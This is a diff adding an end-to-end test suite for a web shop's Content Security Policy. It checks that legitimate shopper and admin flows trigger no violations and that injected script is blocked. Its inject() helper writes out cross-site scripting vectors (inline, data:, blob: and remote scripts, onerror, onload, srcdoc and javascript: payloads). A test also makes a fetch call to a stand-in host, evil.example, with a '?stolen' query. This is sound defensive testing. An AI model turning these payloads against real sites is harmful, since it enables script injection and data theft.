@@ -1,0 +1,149 @@
+import { describe, expect } from 'vitest';
+import type { BrowserContext } from 'playwright-core';
+import { contentTexts } from '../../web/src/i18n/admin-content.ts';
+import { orderPageTexts } from '../../web/src/i18n/admin-order.ts';
+import { orderForm } from '../shop/backend.ts';
+import { putOrders } from '../shop/orders.ts';
+import { AdminPage } from './admin-page.ts';
+import { AuthPage } from './auth-page.ts';
+import { ConfirmationPage } from './confirmation-page.ts';
+import { ImagesDesk, png } from './images-desk.ts';
+import { OrderPage } from './order-page.ts';
+import { OrdersPage } from './orders-page.ts';
+import { PaymentPage } from './payment-page.ts';
+import { httpError, expectVisible, NO_PAGE, test } from './shopper.ts';
+
+const DESK = { viewport: { width: 1440, height: 900 }, hasTouch: false } as const;
+
+/** Collects what the policy forbids, in every page and frame of the store from now on. */
+async function watchPolicy(context: BrowserContext): Promise<string[]> {
+  const violations: string[] = [];
+  await context.exposeBinding('onViolation', (_, violation: string) => {
+    violations.push(violation);
+  });
+  await context.addInitScript(() => {
+    const { onViolation } = globalThis as unknown as { onViolation: (text: string) => void };
+    document.addEventListener('securitypolicyviolation', (event) =>
+      onViolation(`${event.effectiveDirective} ${event.blockedURI} at ${location.pathname}`),
+    );
+  });
+  return violations;
+}
+
+describe('the policy forbids nothing that the store does', () => {
+  test('for a shopper, from the landing page to the paid order', async ({ shopper }) => {
+    shopper.mayPrint(...NO_PAGE);
+    const { page, context } = shopper;
+    const violations = await watchPolicy(context);
+    for (const path of [
+      '/product-details',
+      '/about',
+      '/policies/terms',
+      '/no/such-page',
+      '/auth',
+    ]) {
+      await page.goto(path);
+      await expectVisible(page.getByRole('heading', { level: 1 }));
+    }
+    await page.goto('/');
+    // a press brings the page to life, and the way on is the app's own
+    await page.getByRole('radio', { name: 'SAR' }).first().check();
+    const orderPage = await OrderPage.open(page);
+    await orderPage.fillIn(orderForm());
+    await orderPage.submit();
+    await (await PaymentPage.reached(page)).pay();
+    await new ConfirmationPage(page).expectPaid();
+    expect(violations).toEqual([]);
+  });
+
+  test('for the merchant, in every section', async ({ newShopper }) => {
+    const { page, context } = await newShopper(DESK);
+    const violations = await watchPolicy(context);
+    const [id] = await putOrders([{}]);
+    const list = await OrdersPage.open(page);
+    await list.listed();
+    const downloading = page.waitForEvent('download');
+    await list.exportButton.click();
+    await downloading;
+    await list.view(id!).click();
+    await page.evaluate(() => {
+      globalThis.print = () => undefined;
+    });
+    await page.getByRole('button', { name: orderPageTexts.printInvoice }).click();
+    const admin = new AdminPage(page);
+    for (const section of ['dashboard', 'products', 'images', 'content'] as const)
+      await admin.goTo(section);
+    const preview = page.locator('iframe').contentFrame();
+    await preview.getByRole('heading', { level: 1 }).waitFor();
+    expect(await page.locator('iframe').getAttribute('title')).toContain(contentTexts.preview);
+    await admin.goTo('images');
+    const desk = new ImagesDesk(page);
+    const shown = page.waitForRequest('**/media/**');
+    await desk.upload(await png('a.png'));
+    await shown;
+    await admin.signOutButton.click();
+    await AuthPage.reached(page);
+    expect(violations).toEqual([]);
+  });
+});
+
+/** Every way in which text that became markup could run; each leaves its name behind. */
+function inject(): void {
+  const ran = (name: string): string => `document.documentElement.dataset.ran = '${name}'`;
+  const add = (markup: string): void => document.body.insertAdjacentHTML('beforeend', markup);
+  const script = (fill: (it: HTMLScriptElement) => void): void => {
+    const element = document.createElement('script');
+    fill(element);
+    document.body.append(element);
+  };
+  script((it) => {
+    it.textContent = ran('inline');
+  });
+  script((it) => {
+    it.src = `data:text/javascript,${encodeURIComponent(ran('data'))}`;
+  });
+  script((it) => {
+    it.src = URL.createObjectURL(new Blob([ran('blob')], { type: 'text/javascript' }));
+  });
+  script((it) => {
+    it.src = 'https://evil.example/x.js';
+  });
+  add(`<img src="/no-such.png" onerror="${ran('onerror')}">`);
+  add(`<svg onload="${ran('onload')}"></svg>`);
+  add(`<iframe srcdoc="<script>parent.${ran('srcdoc')}</script>"></iframe>`);
+  add(`<a id="injected" href="javascript:${ran('address')}">x</a>`);
+  document.getElementById('injected')!.click();
+  setTimeout(ran('eval') as unknown as () => void);
+}
+
+test.for(['/', '/order', '/auth', '/no/such-page'])(
+  'script that found its way into %s does not run, and fetches nothing',
+  async (path, { shopper }) => {
+    shopper.mayPrint(/Content Security Policy/, ...NO_PAGE, httpError(404));
+    const { page, context } = shopper;
+    const violations = await watchPolicy(context);
+    let asked = 0;
+    await context.route('https://evil.example/**', (route) => {
+      asked += 1;
+      return route.fulfill({ body: "document.documentElement.dataset.ran = 'theirs'" });
+    });
+    await page.goto(path);
+    await expectVisible(page.getByRole('heading', { level: 1 }));
+    await page.evaluate(inject);
+    await page.evaluate(() => fetch('https://evil.example/?stolen').catch(() => undefined));
+    await expect.poll(() => violations.length).toBe(10);
+    expect(violations.map((line) => line.replace(/ at .*/, ''))).toEqual(
+      expect.arrayContaining([
+        'script-src-elem inline',
+        'script-src-elem data',
+        'script-src-elem blob',
+        'script-src-elem https://evil.example/x.js',
+        'script-src-attr inline',
+        'script-src eval',
+        'connect-src https://evil.example/?stolen',
+      ]),
+    );
+    expect(await page.locator('html').getAttribute('data-ran')).toBeNull();
+    expect(asked).toBe(0);
+  },
+);
